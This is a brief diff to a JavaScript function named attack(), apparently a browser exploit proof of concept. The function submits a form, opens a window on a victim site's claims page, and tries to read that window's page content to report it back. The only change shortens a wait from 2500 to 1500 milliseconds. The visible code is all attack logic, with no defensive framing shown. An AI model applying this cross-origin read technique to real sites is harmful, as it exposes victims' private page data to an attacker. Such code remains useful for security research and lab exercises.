@@ -83,7 +83,7 @@ async function attack() {
   document.getElementById("text").submit();
   await new Promise((done) => setTimeout(done, 500));
   const opened = window.open(`${victim}/claims?case=chicken`);
-  await new Promise((done) => setTimeout(done, 2500));
+  await new Promise((done) => setTimeout(done, 1500));
   let words = "refused";
   try { words = opened.document.body.innerHTML || words; } catch { /* not ours */ }
   report("window", words);
